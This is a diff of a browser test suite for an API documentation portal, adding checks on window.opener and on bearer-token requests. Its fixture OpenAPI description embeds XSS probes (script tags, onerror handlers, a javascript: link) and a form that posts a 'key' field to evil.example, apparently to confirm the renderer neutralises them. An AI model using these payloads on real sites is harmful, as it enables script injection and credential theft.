@@ -23,11 +23,14 @@ info:
   description: |
     Orders. <script>window.stolen = 1</script> <img src="/docs" onerror="window.stolen = 2"> [here](javascript:window.stolen=3)
     <form action="https://evil.example/"><input name="key"></form> <iframe src="/keys"></iframe> <img src="https://evil.example/pixel.png">
-security: [{ key: [] }]
+security: [{ key: [] }, { inAddress: [] }]
 paths:
   /orders:
     get: { operationId: listOrders, summary: List orders, tags: [Orders], responses: { "200": { description: The orders. } } }
-components: { securitySchemes: { key: { type: http, scheme: bearer } } }
+components:
+  securitySchemes:
+    inAddress: { type: apiKey, in: query, name: api_key }
+    key: { type: http, scheme: bearer }
 `;
 const settings = `[brand]\nname = "Acme"\nopenapi = "openapi.yaml"\napi_url = "http://127.0.0.1:${port}"\nfirst_request = "GET /orders"\n`;
 const { worker, browser } = useBrowser({ files: { "overview.toml": settings, "openapi.yaml": openapi } });
@@ -96,13 +99,16 @@ it("The reference sends requests as the key that the reader has chosen, and no o
   const [reference] = await Promise.all([page.waitForEvent("popup"), page.getByRole("button", { name: "Open the API reference" }).click()]);
   await reference.getByText(/^Requests are sent as .+ for ten minutes\.$/).waitFor();
   expect(reference.url()).not.toMatch(/#[0-9a-f-]{36}/);
+  // Otherwise, a page that follows in this tab could lead the page that opened it elsewhere.
+  expect(await reference.evaluate("window.opener")).toBeNull();
   received.splice(0);
   await reference
     .getByRole("button", { name: /Test Request/ })
     .first()
     .click();
   await reference.getByRole("button", { name: /Send/ }).first().click();
-  await expect.poll(() => received[0]?.authorization).toMatch(/^Bearer dvo_[0-9A-Za-z]{16}_[0-9A-Za-z]{40}$/);
+  await expect.poll(() => received[0]?.url).toBe("/orders");
+  expect(received[0]?.authorization).toMatch(/^Bearer dvo_[0-9A-Za-z]{16}_[0-9A-Za-z]{40}$/);
   const me = await fetch(`http://localhost:${worker.port}/api/v1/me`, { headers: { Authorization: received[0]?.authorization ?? "" } });
   expect(me.status).toBe(200);
   // A later page in the tab asks again, also with the text of the first.
